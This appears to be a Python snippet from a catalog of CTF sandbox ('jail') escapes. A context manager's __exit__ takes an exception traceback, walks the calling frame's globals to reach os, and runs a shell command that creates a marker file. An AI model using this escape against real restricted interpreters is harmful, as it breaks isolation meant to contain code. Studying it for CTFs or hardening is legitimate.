"""A context manager is given the traceback.

Known from: CTF jails without the name of any exception
Effect: made
Host: build = __build_class__
Given: build
Jail: no builtins
"""
__builtins__["__build_class__"] = build


class Manager:
    def __enter__(self):
        pass

    def __exit__(self, cls, error, traceback):
        traceback.tb_frame.f_back.f_globals["os"].system(": > made")
        return True


with Manager():
    1 / 0
